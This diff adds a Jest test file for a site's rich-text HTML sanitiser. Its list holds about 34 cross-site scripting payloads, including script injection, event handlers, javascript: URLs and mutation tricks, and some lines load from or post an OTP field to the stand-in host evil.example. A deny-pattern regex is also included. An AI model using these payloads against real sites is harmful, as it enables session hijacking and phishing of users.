@@ -1,0 +1,101 @@
+import { describe, expect, test } from '@jest/globals';
+import sanitizeHtml from 'sanitize-html';
+import { cleanHtml } from '@/lib/server/rich-text';
+
+/** Ways that have been used to run something from a text. */
+const ATTACKS = [
+  '<script>alert(1)</script>',
+  '<scr<script>ipt>alert(1)</script>',
+  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
+  '<img src=x onerror=alert(1)>',
+  '<img src="javascript:alert(1)">',
+  '<img/src="x"/onerror=alert(1)//',
+  '<img src="data:image/svg+xml;base64,PHN2Zy8+">',
+  '<svg onload=alert(1)><script>alert(1)</script></svg>',
+  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
+  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
+  '<a href="javascript:alert(1)">x</a>',
+  '<a href=" &#14; javascript:alert(1)">x</a>',
+  '<a href="java&#x09;script:alert(1)">x</a>',
+  '<a href="JaVaScRiPt:alert(1)">x</a>',
+  '<a href="vbscript:msgbox(1)">x</a>',
+  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
+  '<a href="//evil.example">x</a>',
+  '<p style="background:url(javascript:alert(1))">x</p>',
+  '<p onclick="alert(1)" id="cart" class="button">x</p>',
+  '<iframe src="https://evil.example"></iframe>',
+  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  '<object data="evil.swf"></object><embed src="evil.swf">',
+  '<form action="https://evil.example"><input name="otp"><button>Go</button></form>',
+  '<base href="https://evil.example/">',
+  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
+  '<link rel="stylesheet" href="https://evil.example/x.css">',
+  '<style>body{background:url(https://evil.example)}</style>',
+  '<video><source onerror="alert(1)"></video>',
+  '<details open ontoggle=alert(1)>x</details>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">x</p></noscript>',
+  '<!--><img src=x onerror=alert(1)>-->',
+  '<textarea></textarea><img src=x onerror=alert(1)></textarea>',
+  '<template><script>alert(1)</script></template>',
+  '<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>',
+];
+
+/** What a browser could act on: every tag with its attributes, as a parser reads them. */
+function actionable(html: string): string[] {
+  const found: string[] = [];
+  sanitizeHtml(html, {
+    allowedTags: false,
+    allowedAttributes: false,
+    allowVulnerableTags: true,
+    onOpenTag: (tag, attribs) => {
+      found.push(tag);
+      for (const [name, value] of Object.entries(attribs)) found.push(`${name}=${value}`);
+    },
+  });
+  return found;
+}
+
+describe('rich text', () => {
+  test.each(ATTACKS)('leaves nothing that runs or loads of %s', (attack) => {
+    const clean = cleanHtml(attack);
+    expect(cleanHtml(clean)).toBe(clean);
+    for (const part of actionable(clean)) {
+      expect(part).not.toMatch(
+        /^(script|style|iframe|object|embed|svg|math|form|input|button|base|meta|link|template|on\w+=|style=|id=|class=|srcdoc=)/i,
+      );
+      expect(part).not.toMatch(/=\s*(javascript|vbscript|data|\/\/)/i);
+    }
+  });
+
+  test('keeps what staff write', () => {
+    const html =
+      '<h2>Why tulsi</h2><p>It is <strong>warm</strong> and <em>bright</em>.<br /></p>' +
+      '<ul><li>One</li></ul><table><tbody><tr><th scope="row">Net</th><td>100 g</td></tr></tbody></table>' +
+      '<blockquote>Steep it.</blockquote><p><a href="https://fssai.gov.in" title="Licences">Licence</a></p>';
+    expect(cleanHtml(html)).toBe(html);
+  });
+
+  test('keeps words whose tags are dropped', () => {
+    expect(cleanHtml('<div><font color="red">Fresh</font> today</div>')).toBe('Fresh today');
+  });
+
+  test('leaves the first heading to the page', () => {
+    expect(cleanHtml('<h1>Tea</h1>')).toBe('<h2>Tea</h2>');
+  });
+
+  test('shows pictures of this site, when they come into view', () => {
+    expect(cleanHtml('<img src="/media/a/640.webp" alt="Leaves" width="640" height="480" />')).toBe(
+      '<img src="/media/a/640.webp" alt="Leaves" width="640" height="480" loading="lazy" />',
+    );
+    expect(cleanHtml('<p>Leaves<img src="https://elsewhere.example/a.jpg"></p>')).toBe(
+      '<p>Leaves</p>',
+    );
+  });
+
+  test.each(['mailto:care@vanya.example', 'tel:+910000000000', '/shop?category=404', '#facts'])(
+    'keeps a link to %s',
+    (href) => {
+      expect(cleanHtml(`<a href="${href}">x</a>`)).toBe(`<a href="${href}">x</a>`);
+    },
+  );
+});
